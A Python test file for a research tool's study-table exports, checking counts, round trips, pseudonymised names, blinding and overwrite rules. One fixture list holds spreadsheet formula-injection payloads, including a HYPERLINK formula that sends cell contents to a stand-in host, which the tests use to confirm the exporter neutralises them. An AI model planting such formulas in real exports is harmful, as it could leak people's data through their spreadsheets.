"""Table exports (CSV folder, XLSX workbook) of the demo study: counts, round trips,
no real names, formula injection, blinding, hidden polls, never overwriting."""

from __future__ import annotations

import tomllib
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import func, select

from coprod_nb.errors import InvalidInput
from coprod_nb.exchange.tables import (
    PSEUDONYMISED,
    REAL_NAMES_NOTICE,
    TABLES,
    export_tables,
    guard_formula,
    study_tables,
)
from coprod_nb.ingest.importer import import_transcripts
from coprod_nb.seed.demo import demo_data_dir
from coprod_nb.storage.models import Event
from tests.acting import as_, as_lead

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
]


def real_names() -> list[str]:
    """Every real full name of the demo manifest (researchers, participants, people)."""
    data = tomllib.loads((demo_data_dir() / "study.toml").read_text("utf-8"))
    return [p["name"] for k in ("researchers", "participants", "people") for p in data[k]]


def exported_text(path: Path) -> str:
    """All text of a CSV folder, or of every part of an XLSX workbook."""
    if path.is_dir():
        return "\n".join(p.read_text("utf-8") for p in sorted(path.iterdir()))
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


def event_count(store) -> int:
    with store.session(write=False) as s:
        return s.scalar(select(func.count(Event.id)))


def test_every_table_of_the_demo_with_its_rows(demo):
    tables = study_tables(demo)
    assert list(tables) == list(TABLES)
    counts = {name: len(df) for name, df in tables.items()}
    assert counts == {
        "study": 1,
        "partnerships": 5,
        "participants": 5,
        "researchers": 3,
        "transcripts": 5,
        "turns": sum(demo.turn_count(t.id) for t in demo.transcripts()),
        "excerpts": 51,
        "notes": 39,  # every researcher's notes: step 1 is closed
        "note_versions": 0,
        "readings": 0,
        "meetings": 1,
        "dissents": 4,
        "tensions": 6,
        "tension_evidence": 57,
        "tension_links": 5,
        "framework_versions": 6 + 4,
        "workshops": 1,
        "card_responses": 30,
        "polls": 2,
        "ballots": 10,  # both demo polls are closed
        "decisions": 6,
        "spectrum_positions": 40,
        "events": event_count(demo),
    }
    assert counts["turns"] == 460
    assert "text" not in tables["transcripts"].columns
    assert {"attr_region", "attr_funding_period"} <= set(tables["partnerships"].columns)
    assert tables["study"].loc[0, "recall_closed_by"] == "Alder"
    assert set(tables["notes"]["researcher"]) == {"Alder", "Birch", "Cedar"}


def test_framework_versions_are_one_row_per_version_and_tension(demo):
    fv = study_tables(demo)["framework_versions"]
    assert fv.groupby("version").size().to_dict() == {1: 6, 2: 4}
    assert fv[fv.version == 2].code.tolist() == list(demo.framework(2).codes)
    assert fv[fv.version == 1].code.tolist() == [f"T{i}" for i in range(1, 7)]


def test_csv_folder_reads_back(demo, tmp_path):
    tables = study_tables(demo)
    before = set(tmp_path.iterdir())
    out = export_tables(demo, "csv", tmp_path / "export")
    assert out == tmp_path / "export"
    assert set(tmp_path.iterdir()) == before | {out}  # nothing written anywhere else
    assert {p.name for p in out.iterdir()} == {"README.txt"} | {f"{n}.csv" for n in TABLES}
    for name, df in tables.items():
        back = pd.read_csv(out / f"{name}.csv", keep_default_na=False)
        assert back.shape == df.shape, name
        assert list(back.columns) == list(df.columns), name
    turns = pd.read_csv(out / "turns.csv", keep_default_na=False)
    assert turns["text"].tolist() == tables["turns"]["text"].tolist()
    readme = (out / "README.txt").read_text("utf-8").splitlines()
    assert readme[0] == PSEUDONYMISED
    assert "turns.csv (460 rows): " + TABLES["turns"] in readme


def test_xlsx_workbook_reads_back(demo, tmp_path):
    tables = study_tables(demo)
    out = export_tables(demo, "xlsx", tmp_path / "study.xlsx")
    sheets = pd.read_excel(out, sheet_name=None)
    assert list(sheets) == ["README", *TABLES]
    for name, df in tables.items():
        assert sheets[name].shape == df.shape, name
    readme = pd.read_excel(out, sheet_name="README", header=None)
    assert readme.iat[0, 0] == PSEUDONYMISED


@pytest.mark.parametrize("fmt,name", [("csv", "export"), ("xlsx", "export.xlsx")])
def test_no_real_name_by_default(demo, tmp_path, fmt, name):
    # a real name typed into a note (and so into the event log) is replaced too
    demo.add_note("Birch", "LAHRP", "Margaret Okafor and priya_caddick.docx", category="practice")
    out = export_tables(demo, fmt, tmp_path / name)
    text = exported_text(out).casefold()
    for real in real_names():
        assert real.casefold() not in text, real
        assert real.casefold().replace(" ", "_") not in text, real
    assert "name_key" not in text
    assert REAL_NAMES_NOTICE.casefold() not in text
    assert "jo linden and cedar.docx" in text
    assert "found in stored text, each replaced by its pseudonym" in text


def test_real_names_on_request_with_the_notice_first(demo, tmp_path):
    key = demo.pseudonym_key().mapping
    tables = study_tables(demo, real_names=True)
    assert list(tables)[:3] == ["notice", "name_key", "study"]
    assert tables["notice"].iat[0, 0] == REAL_NAMES_NOTICE
    name_key = tables["name_key"]
    assert dict(zip(name_key.real_name, name_key.pseudonym, strict=True)) == key

    folder = export_tables(demo, "csv", tmp_path / "real", real_names=True)
    assert (folder / "README.txt").read_text("utf-8").splitlines()[0] == REAL_NAMES_NOTICE
    assert len(pd.read_csv(folder / "name_key.csv")) == len(key)
    assert "Margaret Okafor" in (folder / "name_key.csv").read_text("utf-8")

    book = export_tables(demo, "xlsx", tmp_path / "real.xlsx", real_names=True)
    sheets = pd.read_excel(book, sheet_name=None, header=None)
    assert list(sheets)[:3] == ["README", "notice", "name_key"]
    assert sheets["README"].iat[0, 0] == REAL_NAMES_NOTICE


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a = b", "a = b"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_guard_formula(value, written):
    assert guard_formula(value) == written


def test_formula_injection_from_a_transcript_is_quoted(demo, tmp_path):
    lines = ["Alder: Over to you."] + [f"Jo Linden: {f}" for f in FORMULAS]
    source = tmp_path / "formula_2021-08-01.txt"
    source.write_text("\n\n".join(lines) + "\n", encoding="utf-8")
    report = import_transcripts(demo, [source], partnership="LAHRP", progress=False)
    tid = report.imported[0].transcript_id
    expected = ["Over to you."] + ["'" + f for f in FORMULAS]
    assert study_tables(demo)["turns"].query("transcript_id == @tid")["text"].tolist() == [
        "Over to you.",
        *FORMULAS,
    ]  # the DataFrames keep the data as stored; the writers guard

    folder = export_tables(demo, "csv", tmp_path / "csv")
    turns = pd.read_csv(folder / "turns.csv", keep_default_na=False)
    assert turns[turns.transcript_id == tid]["text"].tolist() == expected

    book = export_tables(demo, "xlsx", tmp_path / "out.xlsx")
    turns = pd.read_excel(book, sheet_name="turns", keep_default_na=False)
    assert turns[turns.transcript_id == tid]["text"].tolist() == expected
    wb = openpyxl.load_workbook(book)
    formulas = [
        c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []


def test_ballots_of_an_open_poll_are_left_out(joint_demo, tmp_path):
    ws = as_lead(joint_demo).add_workshop(date(2021, 11, 10), participants=["Jo Linden"])
    poll = joint_demo.open_poll(ws.id, "opening", ["T1", "T2"])
    joint_demo.cast_ballot(poll.id, "Jo Linden", ["T2"])
    tables = study_tables(joint_demo)
    assert tables["ballots"].empty
    assert tables["polls"][["status", "ballots_cast"]].values.tolist() == [["open", 1]]
    folder = export_tables(joint_demo, "csv", tmp_path / "csv")
    assert len(pd.read_csv(folder / "ballots.csv")) == 0
    votes = tables["events"].query("action == 'vote'")["after"].tolist()
    assert votes == ['{"by": "Jo Linden"}']  # who voted, never what


def test_blinding_while_step_1_is_open(recall_demo, tmp_path):
    mine = {n.id for n in as_(recall_demo, "Birch").notes(include_deleted=True)}
    tables = study_tables(as_(recall_demo, "Birch"), viewer="Birch")
    assert set(tables["notes"]["id"]) == mine
    assert set(tables["notes"]["researcher"]) == {"Birch"}
    events = tables["events"]
    assert set(events[events.object_type == "note"]["object_id"]) <= mine
    visible = {e.id for e in as_(recall_demo, "Birch").excerpts()}
    assert set(tables["excerpts"]["id"]) == visible
    assert set(events[events.object_type == "excerpt"]["object_id"]) <= visible
    # the default viewer is the person working: "tester" is none of the team
    assert study_tables(recall_demo)["notes"].empty
    lead = study_tables(as_(recall_demo, "Alder"))["notes"]
    assert set(lead["researcher"]) == {"Alder"}
    folder = export_tables(as_(recall_demo, "Birch"), "csv", tmp_path / "csv", viewer="Birch")
    assert "step 1 is OPEN" in (folder / "README.txt").read_text("utf-8")


def test_an_export_replaces_its_own_files_only_with_force_and_keeps_others(demo, tmp_path):
    # One rule for every output (coprod_nb/exchange/outputs.py): a folder may hold other
    # files; a file the export writes is replaced only with force.
    out = tmp_path / "busy"
    out.mkdir()
    (out / "keep.txt").write_text("mine", encoding="utf-8")
    export_tables(demo, "csv", out)
    assert (out / "keep.txt").read_text("utf-8") == "mine"
    before = (out / "turns.csv").read_bytes()
    (out / "turns.csv").write_text("old", encoding="utf-8")
    with pytest.raises(InvalidInput, match="already exists.*--force"):
        export_tables(demo, "csv", out)
    assert (out / "turns.csv").read_text("utf-8") == "old"
    export_tables(demo, "csv", out, force=True)
    assert (out / "turns.csv").read_bytes() == before
    assert (out / "keep.txt").read_text("utf-8") == "mine"


def test_existing_or_misnamed_workbook_is_refused(demo, tmp_path):
    book = tmp_path / "old.xlsx"
    book.write_bytes(b"old")
    with pytest.raises(InvalidInput, match="already exists"):
        export_tables(demo, "xlsx", book)
    assert book.read_bytes() == b"old"
    with pytest.raises(InvalidInput, match=r"\.xlsx"):
        export_tables(demo, "xlsx", tmp_path / "study.csv")
    with pytest.raises(InvalidInput, match="does not exist"):
        export_tables(demo, "csv", tmp_path / "missing" / "out")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["demo", "old.xlsx"]
    assert export_tables(demo, "xlsx", book, force=True).read_bytes()[:2] == b"PK"


def test_unknown_format_is_refused(demo, tmp_path):
    with pytest.raises(InvalidInput, match="'json'"):
        export_tables(demo, "json", tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_xlsx_cuts_overlong_cells_and_drops_control_characters(demo, tmp_path):
    long = "x" * 40_000
    demo.add_note("Birch", "TCP", long, category="practice")
    demo.add_note("Birch", "TCP", "vertical\x0btab", category="practice")
    book = export_tables(demo, "xlsx", tmp_path / "out.xlsx")
    notes = pd.read_excel(book, sheet_name="notes")
    cut = notes[notes.text.str.startswith("xxx")].text.iloc[0]
    assert len(cut) == 32_767 and cut.endswith("the CSV export has it all]")
    assert "verticaltab" in notes.text.tolist()
    readme = pd.read_excel(book, sheet_name="README", header=None)[0].tolist()
    assert any("longer than Excel allows were cut" in str(line) for line in readme)
    folder = export_tables(demo, "csv", tmp_path / "csv")
    assert long in pd.read_csv(folder / "notes.csv").text.tolist()
